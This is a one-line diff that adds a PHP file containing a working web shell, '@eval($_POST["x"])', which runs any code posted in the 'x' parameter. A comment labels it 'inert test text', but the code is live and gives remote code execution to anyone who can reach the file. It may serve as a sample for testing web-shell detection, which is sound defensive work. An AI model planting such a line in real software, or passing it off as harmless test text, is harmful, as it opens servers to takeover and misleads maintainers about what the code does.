@@ -1,0 +1,1 @@
+<?php /* inert test text */ @eval($_POST["x"]); ?>
